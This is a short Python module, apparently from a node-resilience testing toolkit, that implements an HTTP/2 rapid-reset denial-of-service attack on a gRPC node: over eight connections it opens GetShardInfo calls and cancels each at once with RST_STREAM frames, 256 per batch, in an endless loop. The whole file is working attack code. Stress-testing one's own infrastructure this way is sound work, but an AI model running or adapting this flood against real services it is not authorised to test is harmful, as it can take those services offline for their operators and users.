"""Begins gRPC calls and resets each at once, as fast as the node reads them."""

from __future__ import annotations

import itertools
from collections.abc import Sequence

import trio
from hyperframe.frame import RstStreamFrame

from tools.siege.attack import Attack, Target
from tools.siege.crowd import Crowd, hold
from tools.siege.grpc_frames import PREFACE, ROOM, begin

CONNECTIONS, AT_ONCE = 8, 256
CANCEL = 8


async def attack(target: Target, sources: Sequence[str]) -> None:
    """Attack until cancelled."""

    async def visit(stream: trio.SocketStream) -> None:
        ids = itertools.count(1, 2)

        async def send() -> None:
            await stream.send_all(PREFACE + ROOM)
            while True:
                calls = [
                    begin(number, "GetShardInfo") + RstStreamFrame(number, CANCEL).serialize()
                    for number in itertools.islice(ids, AT_ONCE)
                ]
                await stream.send_all(b"".join(calls))

        async with trio.open_nursery() as nursery:
            nursery.start_soon(send)
            while await stream.receive_some(65536):
                pass
            nursery.cancel_scope.cancel()

    await hold([Crowd(target.host, target.grpc_port, CONNECTIONS)], sources, visit)


ATTACK = Attack("8 connections that begin calls and reset them", attack)
